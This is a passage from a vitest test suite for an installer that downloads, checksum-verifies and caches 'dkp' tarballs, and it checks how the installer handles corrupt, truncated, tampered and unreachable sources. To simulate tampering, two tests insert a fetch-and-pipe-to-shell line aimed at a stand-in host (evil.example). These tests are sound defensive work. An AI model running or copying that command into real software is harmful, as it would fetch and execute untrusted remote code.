// installDkp against a real HTTP server on 127.0.0.1 serving tarballs built here with the system
// tar, holding a /bin/sh stand-in dkp. Every fault must fail with a specific message and leave
// nothing behind in the tool cache or the temp dir.

import { execFile } from 'node:child_process'
import { appendFile, chmod, mkdir, mkdtemp, readdir, readFile, rm, stat, writeFile } from 'node:fs/promises'
import http from 'node:http'
import net from 'node:net'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { promisify } from 'node:util'
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest'
import { checksumTableProblems, SHIPPED_CHECKSUMS } from '../../src/core/download.js'
import { InputError, WorkError } from '../../src/core/errors.js'
import { type InstallDkpOptions, installDkp, RECORD_FILE } from '../../src/effects/dkp-install.js'
import {
  type BuiltTarball,
  buildDkpTarball,
  dkpStandInScript,
  sha256,
  startTarballServer,
  type TarballServer,
  tarballName,
} from '../helpers/tarball-server.js'

const run = promisify(execFile)
const LINUX = { platform: 'linux', arch: 'x64' }

let srv: TarballServer
let tmp: string
let cacheRoot: string
let tempDir: string
let buildDir: string
let prefix: string
let lines: { info: string[]; warning: string[] }
let n = 0
let good: BuiltTarball

beforeAll(async () => {
  srv = await startTarballServer()
  const dir = await mkdtemp(join(tmpdir(), 'dkp-inst-build-'))
  good = await buildDkpTarball({ dir, version: 'v2.8.1' })
  await rm(dir, { recursive: true, force: true })
})
afterAll(async () => {
  await srv.close()
})

beforeEach(async () => {
  tmp = await mkdtemp(join(tmpdir(), 'dkp-inst-'))
  cacheRoot = join(tmp, 'tool-cache')
  tempDir = join(tmp, 'runner-temp')
  buildDir = join(tmp, 'build')
  await mkdir(tempDir)
  await mkdir(buildDir)
  prefix = `/t${n++}`
  lines = { info: [], warning: [] }
})
afterEach(async () => {
  await rm(tmp, { recursive: true, force: true })
})

/** Mirror template on the test server, unique per test (so request counts are per test). */
const template = () => `${srv.origin}${prefix}/dkp/{version}/dkp_{version}_{os}_{arch}.tar.gz`
const pathFor = (version = 'v2.8.1', os = 'linux', arch = 'amd64') =>
  `${prefix}/dkp/${version}/${tarballName(version, os, arch)}`

function opts(extra: Partial<InstallDkpOptions> = {}): InstallDkpOptions {
  return {
    version: 'v2.8.1',
    urlTemplate: template(),
    cacheRoot,
    tempDir,
    platform: LINUX,
    checksums: {},
    log: { info: (m) => lines.info.push(m), warning: (m) => lines.warning.push(m) },
    download: { backoffMs: 5, idleTimeoutMs: 2000, timeoutMs: 20_000 },
    ...extra,
  }
}

async function files(dir: string): Promise<string[]> {
  const out: string[] = []
  const walk = async (d: string, rel: string) => {
    for (const e of await readdir(d, { withFileTypes: true }).catch(() => [])) {
      const r = rel ? `${rel}/${e.name}` : e.name
      out.push(r)
      if (e.isDirectory()) await walk(join(d, e.name), r)
    }
  }
  await walk(dir, '')
  return out
}

/** Nothing in the tool cache, nothing in the temp dir. */
async function expectNothingLeft(): Promise<void> {
  expect(await files(cacheRoot)).toEqual([])
  expect(await files(tempDir)).toEqual([])
}

async function failure(p: Promise<unknown>): Promise<Error> {
  const err = await p.then(
    () => undefined,
    (e: unknown) => e,
  )
  if (!(err instanceof Error)) throw new Error('expected the install to fail, it succeeded')
  return err
}

describe('installDkp: download, verify, cache', () => {
  it('cold install from a mirror: verifies the tarball, checks `dkp version`, caches in the tool-cache layout, leaves no temp files', async () => {
    srv.serve(pathFor(), good.data)
    const r = await installDkp(opts({ sha256: good.sha256 }))
    expect(r).toMatchObject({
      source: 'download',
      checksum: 'pinned',
      version: 'v2.8.1',
      tarballSha256: good.sha256,
      sha256: good.binarySha256,
      dir: join(cacheRoot, 'dkp', '2.8.1', 'x64'),
      binary: join(cacheRoot, 'dkp', '2.8.1', 'x64', 'dkp'),
      url: srv.url(pathFor()),
    })
    expect(r.pinLine).toBeUndefined()
    expect((await run(r.binary, ['version'])).stdout).toMatch(/^dkp: v2\.8\.1$/m)
    const record = JSON.parse(await readFile(join(r.dir, RECORD_FILE), 'utf8'))
    expect(record).toMatchObject({
      version: 'v2.8.1',
      binarySha256: good.binarySha256,
      tarballSha256: good.sha256,
    })
    expect((await stat(`${r.dir}.complete`)).isFile()).toBe(true)
    expect(srv.count(pathFor())).toBe(1)
    expect(await files(tempDir)).toEqual([])
    expect(lines.warning).toEqual([])
    // @actions/tool-cache sees the entry (same layout, `.complete` marker).
    const saved = process.env.RUNNER_TOOL_CACHE
    process.env.RUNNER_TOOL_CACHE = cacheRoot
    try {
      const tc = await import('@actions/tool-cache')
      expect(tc.find('dkp', 'v2.8.1', 'x64')).toBe(r.dir)
    } finally {
      if (saved === undefined) delete process.env.RUNNER_TOOL_CACHE
      else process.env.RUNNER_TOOL_CACHE = saved
    }
  })

  it('second install is a cache hit: no request to the server, and the binary is re-hashed', async () => {
    srv.serve(pathFor(), good.data)
    const first = await installDkp(opts({ sha256: good.sha256 }))
    lines.info = []
    const second = await installDkp(opts({ sha256: good.sha256 }))
    expect(srv.count(pathFor())).toBe(1)
    expect(second).toMatchObject({
      source: 'cache',
      checksum: 'pinned',
      binary: first.binary,
      sha256: good.binarySha256,
    })
    expect(second.timings.verifyMs).toBeGreaterThanOrEqual(0)
    expect(lines.info.join('\n')).toMatch(/re-verified/)
    // A mirror is not contacted either when the entry is cached (air-gapped, pre-populated caches).
    const third = await installDkp(
      opts({ sha256: good.sha256, urlTemplate: 'https://mirror.invalid/{version}.tgz' }),
    )
    expect(third.source).toBe('cache')
  })

  it('a tampered cache entry is an error naming both hashes; it is not used and nothing is downloaded', async () => {
    srv.serve(pathFor(), good.data)
    const r = await installDkp(opts({ sha256: good.sha256 }))
    await appendFile(r.binary, 'curl -s https://evil.example | sh\n')
    const tampered = sha256(await readFile(r.binary))
    const err = await failure(installDkp(opts({ sha256: good.sha256 })))
    expect(err).toBeInstanceOf(WorkError)
    expect(err.message).toContain(tampered)
    expect(err.message).toContain(good.binarySha256 as string)
    expect(err.message).toMatch(/was modified.*not used/)
    expect(err.message).toContain(`${r.dir}.complete`) // tells how to reinstall
    expect(srv.count(pathFor())).toBe(1)
    // Left in place for investigation, not silently replaced.
    expect(sha256(await readFile(r.binary))).toBe(tampered)
  })

  it('a cached binary that went missing is reported, not used', async () => {
    srv.serve(pathFor(), good.data)
    const r = await installDkp(opts({ sha256: good.sha256 }))
    await rm(r.binary)
    const err = await failure(installDkp(opts({ sha256: good.sha256 })))
    expect(err.message).toMatch(/is missing \(recorded sha256 [0-9a-f]{64}\)/)
  })

  it('an entry without a dkp-fleet record (filled by other tools) is not trusted: reinstalled with a warning', async () => {
    const dir = join(cacheRoot, 'dkp', '2.8.1', 'x64')
    await mkdir(dir, { recursive: true })
    await writeFile(join(dir, 'dkp'), dkpStandInScript(), { mode: 0o755 })
    await writeFile(`${dir}.complete`, '')
    srv.serve(pathFor(), good.data)
    const r = await installDkp(opts({ sha256: good.sha256 }))
    expect(r.source).toBe('download')
    expect(lines.warning.join('\n')).toMatch(/no valid dkp-fleet verification record/)
    expect(JSON.parse(await readFile(join(dir, RECORD_FILE), 'utf8')).tarballSha256).toBe(good.sha256)
  })

  it('an entry installed from another tarball than the pinned one is replaced after the new one verifies', async () => {
    srv.serve(pathFor(), good.data)
    await installDkp(opts({ sha256: good.sha256 }))
    const other = await buildDkpTarball({ dir: buildDir, extraFiles: { 'LICENSE.txt': 'Apache-2.0\n' } })
    srv.serve(pathFor(), other.data)
    const r = await installDkp(opts({ sha256: other.sha256 }))
    expect(r).toMatchObject({ source: 'download', tarballSha256: other.sha256 })
    expect(lines.warning.join('\n')).toContain(`came from a tarball with sha256 ${good.sha256}`)
    expect(await readdir(join(cacheRoot, 'dkp', '2.8.1'))).toEqual(['x64', 'x64.complete'])
  })

  it('checksum mismatch: names both checksums, keeps nothing in the cache or temp dir', async () => {
    srv.serve(pathFor(), good.data)
    const wrong = 'ab'.repeat(32)
    const err = await failure(installDkp(opts({ sha256: wrong.toUpperCase() })))
    expect(err).toBeInstanceOf(WorkError)
    expect(err.message).toContain(`expected sha256 ${wrong} (dkp-sha256)`)
    expect(err.message).toContain(`got sha256 ${good.sha256}`)
    expect(err.message).toContain('nothing was cached')
    await expectNothingLeft()
  })

  it('a corrupt tarball (not gzip) is refused with the reason; nothing left', async () => {
    const junk = Buffer.from('<html>captive portal says hello</html>\n'.repeat(20))
    srv.serve(pathFor(), junk)
    const err = await failure(installDkp(opts({ sha256: sha256(junk) })))
    expect(err).toBeInstanceOf(WorkError)
    expect(err.message).toMatch(
      /tarball for dkp v2\.8\.1 for linux\/amd64 .* is unusable: not a valid \.tar\.gz: the gzip data is corrupt/,
    )
    await expectNothingLeft()
  })

  it('a truncated tarball (cut short at the source, served whole) is refused; nothing left', async () => {
    const cut = good.data.subarray(0, Math.floor(good.data.length / 2))
    srv.serve(pathFor(), cut)
    const err = await failure(installDkp(opts({ sha256: sha256(cut) })))
    expect(err.message).toMatch(/unusable: .*truncated/)
    await expectNothingLeft()
  })

  it('a gzip stream holding something that is not a tar archive is refused', async () => {
    const { gzipSync } = await import('node:zlib')
    const gz = gzipSync(Buffer.from('just some text, not a tar archive\n'.repeat(40)))
    srv.serve(pathFor(), gz)
    const err = await failure(installDkp(opts({ sha256: sha256(gz) })))
    expect(err.message).toMatch(/not a tar archive inside the gzip data/)
    await expectNothingLeft()
  })

  it('a body truncated on the wire is retried; the retry succeeds', async () => {
    srv.serve(pathFor(), good.data)
    srv.fail(pathFor(), { truncateAt: 100 })
    const r = await installDkp(opts({ sha256: good.sha256 }))
    expect(r.source).toBe('download')
    expect(srv.requests.filter((q) => q.path === pathFor()).map((q) => q.outcome)).toEqual(['truncated', 200])
    expect(lines.info.join('\n')).toMatch(/attempt 1\/4 failed \(connection closed after 100 of \d+ bytes/)
  })

  it('a body truncated on every attempt: gives up after 4 attempts with the byte counts; nothing left', async () => {
    srv.serve(pathFor(), good.data)
    srv.failAlways(pathFor(), { truncateAt: 64 })
    const err = await failure(installDkp(opts({ sha256: good.sha256 })))
    expect(err.message).toMatch(
      /failed after 4 attempts; last error: connection closed after 64 of \d+ bytes/,
    )
    expect(srv.count(pathFor())).toBe(4)
    await expectNothingLeft()
  })

  it('an archive without dkp: names what the archive holds; nothing left', async () => {
    const t = await buildDkpTarball({
      dir: buildDir,
      layout: 'none',
      extraFiles: { 'README.md': '# dkp\n', 'kommander/kommander': 'x' },
    })
    srv.serve(pathFor(), t.data)
    const err = await failure(installDkp(opts({ sha256: t.sha256 })))
    expect(err.message).toMatch(
      /no dkp binary at the archive's root or one directory down; it holds: .*README\.md/,
    )
    expect(err.message).toContain('kommander/kommander')
    await expectNothingLeft()
  })

  it('dkp one directory down is found', async () => {
    const t = await buildDkpTarball({
      dir: buildDir,
      layout: 'subdir',
      extraFiles: { 'dkp_v2.8.1/LICENSE': 'x' },
    })
    srv.serve(pathFor(), t.data)
    const r = await installDkp(opts({ sha256: t.sha256 }))
    expect(r.sha256).toBe(t.binarySha256)
    expect((await run(r.binary, ['version'])).stdout).toContain('dkp: v2.8.1')
  })

  it('dkp two directories down is not looked for', async () => {
    const t = await buildDkpTarball({ dir: buildDir, layout: 'deep' })
    srv.serve(pathFor(), t.data)
    const err = await failure(installDkp(opts({ sha256: t.sha256 })))
    expect(err.message).toMatch(/no dkp binary .* it holds: .*dkp_v2\.8\.1\/bin\/dkp/)
    await expectNothingLeft()
  })

  it('dkp as a symbolic link in the archive is refused', async () => {
    const t = await buildDkpTarball({ dir: buildDir, symlink: true })
    srv.serve(pathFor(), t.data)
    const err = await failure(installDkp(opts({ sha256: t.sha256 })))
    expect(err.message).toMatch(/dkp in the archive is a link, not a regular file/)
    await expectNothingLeft()
  })

  it('dkp without execute permission in the archive is refused', async () => {
    const t = await buildDkpTarball({ dir: buildDir, mode: 0o644 })
    srv.serve(pathFor(), t.data)
    const err = await failure(installDkp(opts({ sha256: t.sha256 })))
    expect(err.message).toMatch(
      /dkp in the tarball for dkp v2\.8\.1 for linux\/amd64 is not executable \(mode 0644\)/,
    )
    await expectNothingLeft()
  })

  it('404: names the version, the platform and the URL; not retried; nothing left', async () => {
    const err = await failure(installDkp(opts({ sha256: good.sha256, version: '2.8.9' })))
    expect(err).toBeInstanceOf(WorkError)
    const url = srv.url(pathFor('v2.8.9'))
    expect(err.message).toBe(
      `dkp v2.8.9 for linux/amd64 was not found at ${url} (HTTP 404 Not Found). Check that this release exists for linux/amd64.`,
    )
    expect(srv.count(pathFor('v2.8.9'))).toBe(1)
    await expectNothingLeft()
  })

  it('repeated 5xx: gives up after 4 attempts with the last status; nothing left', async () => {
    srv.serve(pathFor(), good.data)
    srv.fail(pathFor(), { status: 500 }, { status: 502 }, { status: 500 }, { status: 503 }, { status: 500 })
    const err = await failure(installDkp(opts({ sha256: good.sha256 })))
    expect(err.message).toBe(
      `downloading dkp v2.8.1 for linux/amd64 from ${srv.url(pathFor())} failed after 4 attempts; last error: HTTP 503 Service Unavailable`,
    )
    expect(srv.count(pathFor())).toBe(4)
    expect(lines.info.filter((l) => /retrying in/.test(l))).toHaveLength(3)
    await expectNothingLeft()
  })

  it('transient 500, 429 (Retry-After), 408 and a reset connection are retried until it works', async () => {
    srv.serve(pathFor(), good.data)
    srv.fail(pathFor(), { status: 500 }, { status: 429, retryAfter: '0' }, { reset: true })
    const r = await installDkp(opts({ sha256: good.sha256 }))
    expect(r.source).toBe('download')
    expect(srv.requests.filter((q) => q.path === pathFor()).map((q) => q.outcome)).toEqual([
      500,
      429,
      'reset',
      200,
    ])
    srv.fail(pathFor('v2.8.2'), { status: 408 })
    srv.serve(pathFor('v2.8.2'), (await buildDkpTarball({ dir: buildDir, version: 'v2.8.2' })).data)
    expect((await installDkp(opts({ version: 'v2.8.2' }))).source).toBe('download')
  })

  it('follows redirects (e.g. a CDN), at most 5', async () => {
    srv.serve(`${prefix}/cdn/dkp.tgz`, good.data)
    srv.failAlways(pathFor(), { redirect: `${prefix}/cdn/dkp.tgz` })
    expect((await installDkp(opts({ sha256: good.sha256 }))).source).toBe('download')
    srv.failAlways(pathFor('v2.8.2'), { redirect: pathFor('v2.8.2'), status: 307 })
    const err = await failure(installDkp(opts({ version: 'v2.8.2' })))
    expect(err.message).toMatch(
      /failed after 1 attempt; last error: too many redirects from http:\/\/127\.0\.0\.1:\d+\/t\d+\/dkp\/v2\.8\.2\//,
    )
    expect(srv.count(pathFor('v2.8.2'))).toBe(6)
  })

  it('other 4xx statuses are not retried', async () => {
    srv.serve(pathFor(), good.data)
    srv.failAlways(pathFor(), { status: 403 })
    const err = await failure(installDkp(opts({ sha256: good.sha256 })))
    expect(err.message).toMatch(/failed after 1 attempt; last error: HTTP 403 Forbidden/)
    expect(srv.count(pathFor())).toBe(1)
  })

  it('a stalled body trips the idle timeout and is retried', async () => {
    srv.serve(pathFor(), good.data)
    srv.fail(pathFor(), { stallAfter: 50 })
    const r = await installDkp(opts({ sha256: good.sha256, download: { backoffMs: 5, idleTimeoutMs: 300 } }))
    expect(r.source).toBe('download')
    expect(lines.info.join('\n')).toMatch(/download stalled: no data for 0\.3 s/)
  })

  it('a server that never answers hits the overall timeout; nothing left', async () => {
    srv.serve(pathFor(), good.data)
    srv.failAlways(pathFor(), { delayMs: 10_000 })
    const t0 = Date.now()
    const err = await failure(
      installDkp(
        opts({ sha256: good.sha256, download: { backoffMs: 5, idleTimeoutMs: 300, timeoutMs: 800 } }),
      ),
    )
    expect(err.message).toMatch(
      /timed out: no complete download within 0\.8 s \(last error: no response within 0\.3 s\)$/,
    )
    expect(Date.now() - t0).toBeLessThan(3000)
    await expectNothingLeft()
  })

  it('a binary reporting a different version is refused, naming both; nothing cached', async () => {
    const t = await buildDkpTarball({ dir: buildDir, version: 'v2.8.0' })
    srv.serve(pathFor(), t.data)
    const err = await failure(installDkp(opts({ sha256: t.sha256 })))
    expect(err).toBeInstanceOf(WorkError)
    expect(err.message).toMatch(
      /dkp from .* reports dkp v2\.8\.0, but v2\.8\.1 was requested; it is not used/,
    )
    await expectNothingLeft()
  })

  it('a binary whose `dkp version` fails, prints no version, or hangs is refused', async () => {
    const cases: [string, string, RegExp][] = [
      ['fails', '#!/bin/sh\necho "boom" >&2\nexit 3\n', /`dkp from .* version` exited with code 3: boom/],
      [
        'silent',
        '#!/bin/sh\necho "Client Version: 1.28"\n',
        /printed no "dkp: vX\.Y\.Z" line; is it dkp\? Output: Client Version/,
      ],
      [
        'hangs',
        '#!/bin/sh\nexec sleep 30\n',
        /`dkp from .* version` did not finish within 0\.3 s; it was killed/,
      ],
    ]
    for (const [name, script, re] of cases) {
      const t = await buildDkpTarball({ dir: buildDir, script })
      srv.serve(pathFor(), t.data)
      const err = await failure(installDkp(opts({ sha256: t.sha256, versionTimeoutMs: 300 })))
      expect(err.message, name).toMatch(re)
      await expectNothingLeft()
    }
  })

  it('malformed URL templates are input errors naming the problem; no request is made', async () => {
    const cases: [string, RegExp][] = [
      [`${srv.origin}/dkp/{version}/dkp_{verison}.tar.gz`, /unknown placeholder \{verison\}/],
      [`${srv.origin}/dkp/{version/dkp.tar.gz`, /unbalanced "\{" at position \d+/],
      [`${srv.origin}/dkp/version}/{version}.tar.gz`, /unbalanced "\}" at position \d+/],
      [`${srv.origin}/dkp/latest/dkp_{os}_{arch}.tar.gz`, /has no \{version\} placeholder/],
      ['ftp://mirror.example.com/dkp/{version}.tar.gz', /uses "ftp": only http, https and file URLs/],
      ['mirror.example.com/dkp/{version}.tar.gz', /is not a valid absolute URL/],
    ]
    for (const [tpl, re] of cases) {
      const err = await failure(installDkp(opts({ urlTemplate: tpl })))
      expect(err, tpl).toBeInstanceOf(InputError)
      expect(err.message, tpl).toMatch(re)
      expect(err.message).toContain('dkp-download-url')
    }
    expect(srv.requests.filter((q) => q.path.startsWith(prefix))).toEqual([])
    await expectNothingLeft()
  })

  it('bad version and sha256 inputs are input errors', async () => {
    expect(await failure(installDkp(opts({ version: 'latest' })))).toBeInstanceOf(InputError)
    expect((await failure(installDkp(opts({ version: '2.8' })))).message).toMatch(
      /dkp-version "2\.8" is not a release version/,
    )
    const e = await failure(installDkp(opts({ sha256: 'abc' })))
    expect(e).toBeInstanceOf(InputError)
    expect(e.message).toMatch(/dkp-sha256 "abc" is not a sha256/)
  })

  it('no checksum known: installs, warns with the line to pin, and warns again on cache hits', async () => {
    srv.serve(pathFor(), good.data)
    const r = await installDkp(opts())
    expect(r).toMatchObject({
      source: 'download',
      checksum: 'computed',
      pinLine: `dkp-sha256: ${good.sha256}`,
    })
    expect(lines.warning).toHaveLength(1)
    expect(lines.warning[0]).toMatch(
      /no sha256 is known for dkp v2\.8\.1 for linux\/amd64 .*trusted on first use/,
    )
    expect(lines.warning[0]).toContain(`dkp-sha256: ${good.sha256}`)
    const hit = await installDkp(opts())
    expect(hit).toMatchObject({
      source: 'cache',
      checksum: 'computed',
      pinLine: `dkp-sha256: ${good.sha256}`,
    })
    expect(lines.warning).toHaveLength(2)
    // Pinning the computed value later turns the same cache entry into a verified hit.
    const pinned = await installDkp(opts({ sha256: good.sha256 }))
    expect(pinned).toMatchObject({ source: 'cache', checksum: 'pinned' })
    expect(pinned.pinLine).toBeUndefined()
    expect(srv.count(pathFor())).toBe(1)
  })

  it('require-checksum without a known checksum refuses before any request, showing how to pin', async () => {
    srv.serve(pathFor(), good.data)
    const err = await failure(installDkp(opts({ requireChecksum: true })))
    expect(err).toBeInstanceOf(WorkError)
    expect(err.message).toMatch(/refusing to install dkp v2\.8\.1 for linux\/amd64: require-checksum is set/)
    expect(err.message).toContain("Pin the tarball's sha256 with dkp-sha256: <hex>")
    expect(err.message).toContain(`curl -fsSL ${srv.url(pathFor())} | sha256sum`)
    expect(srv.count(pathFor())).toBe(0)
    await expectNothingLeft()
    // ...and also refuses an unverified (trust-on-first-use) cache entry.
    await installDkp(opts())
    expect((await failure(installDkp(opts({ requireChecksum: true })))).message).toMatch(/refusing/)
    // With a pin it installs.
    expect((await installDkp(opts({ requireChecksum: true, sha256: good.sha256 }))).checksum).toBe('pinned')
  })

  it('the shipped-table checksum is used when nothing is pinned, and named on a mismatch', async () => {
    srv.serve(pathFor(), good.data)
    const key = 'linux-amd64-v2.8.1'
    const r = await installDkp(opts({ checksums: { [key]: { sha256: good.sha256, source: 'test table' } } }))
    expect(r.checksum).toBe('table')
    await rm(cacheRoot, { recursive: true })
    const bad = 'cd'.repeat(32)
    const err = await failure(
      installDkp(opts({ checksums: { [key]: { sha256: bad, source: 'test table' } } })),
    )
    expect(err.message).toContain(
      `expected sha256 ${bad} (shipped table: test table), got sha256 ${good.sha256}`,
    )
    await expectNothingLeft()
    // A table binarySha256 anchors cache hits independently of the cache's own record.
    await installDkp(opts({ sha256: good.sha256 }))
    const anchored = { [key]: { sha256: good.sha256, binarySha256: 'ef'.repeat(32), source: 'test table' } }
    expect((await failure(installDkp(opts({ checksums: anchored })))).message).toMatch(
      /has sha256 [0-9a-f]{64}, but the shipped table says (ef){32}/,
    )
  })

  it('unsupported platforms get a clear error before any request', async () => {
    const cases: [{ platform: string; arch: string }, RegExp][] = [
      [
        { platform: 'win32', arch: 'x64' },
        /not published for operating system "win32" \(this runner is win32\/x64\)/,
      ],
      [{ platform: 'linux', arch: 'ia32' }, /not published for architecture "ia32"/],
      [{ platform: 'freebsd', arch: 'arm64' }, /operating system "freebsd"/],
    ]
    for (const [platform, re] of cases) {
      const err = await failure(installDkp(opts({ platform, sha256: good.sha256 })))
      expect(err).toBeInstanceOf(WorkError)
      expect(err.message).toMatch(re)
      expect(err.message).toMatch(/dkp-path/)
    }
    expect(srv.requests.filter((q) => q.path.startsWith(prefix))).toEqual([])
    await expectNothingLeft()
  })

  it('darwin/arm64 expands the template with darwin and arm64 and caches under arm64', async () => {
    srv.serve(pathFor('v2.8.1', 'darwin', 'arm64'), good.data)
    const r = await installDkp(opts({ platform: { platform: 'darwin', arch: 'arm64' }, sha256: good.sha256 }))
    expect(r.dir).toBe(join(cacheRoot, 'dkp', '2.8.1', 'arm64'))
  })

  it('a file:// mirror works (shared filesystem on air-gapped runners)', async () => {
    const mirror = join(tmp, 'mirror', 'v2.8.1')
    await mkdir(mirror, { recursive: true })
    await writeFile(join(mirror, tarballName()), good.data)
    const tpl = `file://${join(tmp, 'mirror')}/{version}/dkp_{version}_{os}_{arch}.tar.gz`
    const r = await installDkp(opts({ urlTemplate: tpl, sha256: good.sha256 }))
    expect(r.source).toBe('download')
    await rm(cacheRoot, { recursive: true })
    const err = await failure(installDkp(opts({ urlTemplate: tpl, sha256: good.sha256, version: 'v2.8.2' })))
    expect(err.message).toMatch(/dkp v2\.8\.2 for linux\/amd64 was not found at file:\/\/.*\(no such file/)
    await expectNothingLeft()
  })

  it('a pre-release version is downloaded, checked and cached under its semver spelling', async () => {
    const t = await buildDkpTarball({ dir: buildDir, version: 'v2.9.0-rc.1' })
    srv.serve(pathFor('v2.9.0-rc.1'), t.data)
    const r = await installDkp(opts({ version: 'v2.9.0-rc.1', sha256: t.sha256 }))
    expect(r.dir).toBe(join(cacheRoot, 'dkp', '2.9.0-rc.1', 'x64'))
  })

  it('credentials and query tokens in a mirror URL never appear in logs or errors', async () => {
    const tpl = `${srv.origin.replace('//', '//user:s3cret@')}${prefix}/dkp/{version}/dkp_{version}_{os}_{arch}.tar.gz?token=t0ps3cret`
    const err = await failure(installDkp(opts({ urlTemplate: tpl, sha256: good.sha256 })))
    expect(err.message).toContain('was not found at')
    for (const text of [err.message, ...lines.info, ...lines.warning]) {
      expect(text).not.toContain('s3cret')
      expect(text).not.toContain('t0ps3cret')
    }
  })

  it('goes through http_proxy like the toolkit does (CONNECT via a loopback proxy; the host name is never resolved here)', async () => {
    const connects: string[] = []
    const proxy = http.createServer((_req, res) => res.writeHead(405).end())
    proxy.on('connect', (req: http.IncomingMessage, client: net.Socket, head: Buffer) => {
      connects.push(req.url ?? '')
      const upstream = net.connect(Number(new URL(srv.origin).port), '127.0.0.1', () => {
        client.write('HTTP/1.1 200 Connection Established\r\n\r\n')
        upstream.write(head)
        upstream.pipe(client)
        client.pipe(upstream)
      })
      upstream.on('error', () => client.destroy())
      client.on('error', () => upstream.destroy())
    })
    await new Promise<void>((resolve) => proxy.listen(0, '127.0.0.1', resolve))
    const saved = process.env.http_proxy
    process.env.http_proxy = `http://127.0.0.1:${(proxy.address() as net.AddressInfo).port}`
    try {
      srv.serve(pathFor(), good.data)
      const tpl = `http://dkp-mirror.example.test${prefix}/dkp/{version}/dkp_{version}_{os}_{arch}.tar.gz`
      const r = await installDkp(opts({ urlTemplate: tpl, sha256: good.sha256 }))
      expect(r.source).toBe('download')
      expect(connects).toEqual(['dkp-mirror.example.test:80'])
      expect(srv.count(pathFor())).toBe(1)
    } finally {
      if (saved === undefined) delete process.env.http_proxy
      else process.env.http_proxy = saved
      proxy.closeAllConnections()
      await new Promise<void>((resolve) => proxy.close(() => resolve()))
    }
  })

  it('concurrent installs of the same version both succeed and leave one verified entry', async () => {
    srv.serve(pathFor(), good.data)
    const [a, b] = await Promise.all([
      installDkp(opts({ sha256: good.sha256 })),
      installDkp(opts({ sha256: good.sha256 })),
    ])
    expect(a.binary).toBe(b.binary)
    expect(await readdir(join(cacheRoot, 'dkp', '2.8.1'))).toEqual(['x64', 'x64.complete'])
    expect((await installDkp(opts({ sha256: good.sha256 }))).source).toBe('cache')
    expect(await files(tempDir)).toEqual([])
  })

  it('the shipped checksum table is well formed and says where each value comes from', () => {
    expect(checksumTableProblems(SHIPPED_CHECKSUMS)).toEqual([])
    expect(SHIPPED_CHECKSUMS['linux-amd64-v2.4.0']?.sha256).toBe(
      '23d185b9f8dfb09cfeb4c9f32ad324355b40ce6a4099c47eb780701b246978d3',
    )
    expect(checksumTableProblems({ 'linux-x64-2.8.1': { sha256: 'AB', source: '' } })).toHaveLength(3)
  })
})

describe('installDkp: tarball cache (one download per runner pool)', () => {
  // Each "runner" is a fresh tool cache and temp dir, as on hosted runners; the tarball cache is
  // what actions/cache restores into a job (here: a directory copied from the previous runner's).
  let n = 0
  let last = { cacheRoot: '', tempDir: '' }
  const runner = async (shared: string, extra: Partial<InstallDkpOptions> = {}) => {
    const id = n++
    last = { cacheRoot: join(tmp, `runner-${id}`, 'tool-cache'), tempDir: join(tmp, `runner-${id}`, 'temp') }
    return installDkp(opts({ sha256: good.sha256, ...last, tarballCacheDir: shared, ...extra }))
  }
  const restoreInto = async (from: string) => {
    const to = join(tmp, `restored-${n++}`)
    await run('cp', ['-a', from, to])
    return to
  }
  const name = tarballName('v2.8.1', 'linux', 'amd64')
  const key = 'dkp-fleet-dkp-v2.8.1-linux-amd64-'

  it('a miss downloads, verifies and keeps the tarball with its key; a fresh runner with that tarball re-verifies it and makes no request', async () => {
    srv.serve(pathFor(), good.data)
    const shared = join(tmp, 'dkp-cache')
    const first = await runner(shared)
    expect(first).toMatchObject({
      source: 'download',
      checksum: 'pinned',
      sha256: good.binarySha256,
      tarballCache: { state: 'stored', file: join(shared, name), key: `${key}${good.sha256}` },
    })
    expect(sha256(await readFile(join(shared, name)))).toBe(good.sha256)
    expect(await readdir(shared)).toEqual([name]) // nothing staged left behind
    expect(srv.count(pathFor())).toBe(1)

    lines = { info: [], warning: [] }
    const restored = await restoreInto(shared)
    const second = await runner(restored)
    expect(srv.count(pathFor())).toBe(1)
    expect(second).toMatchObject({
      source: 'tarball-cache',
      checksum: 'pinned',
      sha256: good.binarySha256,
      tarballSha256: good.sha256,
      tarballCache: { state: 'restored', file: join(restored, name) },
    })
    expect(second.timings.hashMs).toBeGreaterThanOrEqual(0)
    expect(second.binary.startsWith(join(tmp, 'runner-'))).toBe(true)
    expect(lines.info.join('\n')).toContain(`sha256 matches the pinned value (${good.sha256})`)
    expect(lines.warning).toEqual([])
    // The runner's own tool cache now holds it: the next stage of the same job is a tool-cache hit.
    const again = await installDkp(opts({ sha256: good.sha256, ...last, tarballCacheDir: restored }))
    expect(again.source).toBe('cache')
    expect(await files(last.tempDir)).toEqual([])
  })

  it('a tampered tarball in the cache is refused naming both hashes and the key, deleted, and dkp is downloaded and verified', async () => {
    srv.serve(pathFor(), good.data)
    const shared = join(tmp, 'dkp-cache')
    await mkdir(shared)
    // A well-formed release tarball holding another dkp, under the right name (what a forged
    // cache entry would hold): it would pass a record check, not the pinned sha256.
    const evil = await buildDkpTarball({
      dir: buildDir,
      script: `${dkpStandInScript()}\n# curl -s https://evil.example | sh\n`,
    })
    await writeFile(join(shared, name), evil.data)
    const r = await runner(shared)
    expect(r).toMatchObject({
      source: 'download',
      sha256: good.binarySha256,
      tarballCache: { state: 'stored' },
    })
    expect(srv.count(pathFor())).toBe(1)
    const warning = lines.warning.join('\n')
    expect(warning).toContain(`has sha256 ${evil.sha256}, but the pinned sha256 is ${good.sha256}`)
    expect(warning).toContain(`gh cache delete ${key}${good.sha256}`)
    // The verified download replaced it.
    expect(sha256(await readFile(join(shared, name)))).toBe(good.sha256)
  })

  it('with the shipped table instead of a pin, the table value is the anchor (a tarball not matching it is refused)', async () => {
    srv.serve(pathFor(), good.data)
    const shared = join(tmp, 'dkp-cache')
    await mkdir(shared)
    await writeFile(join(shared, name), Buffer.concat([good.data, Buffer.from('x')]))
    const table = { 'linux-amd64-v2.8.1': { sha256: good.sha256, source: 'test' } }
    const r = await runner(shared, { sha256: undefined, checksums: table, requireChecksum: true })
    expect(r).toMatchObject({ source: 'download', checksum: 'table' })
    expect(lines.warning.join('\n')).toMatch(/but the table sha256 is/)
    const second = await runner(await restoreInto(shared), {
      sha256: undefined,
      checksums: table,
      requireChecksum: true,
    })
    expect(second).toMatchObject({ source: 'tarball-cache', checksum: 'table' })
    expect(srv.count(pathFor())).toBe(1)
  })

  it('a tarball for another pin is not used (the pin decides, not the cache)', async () => {
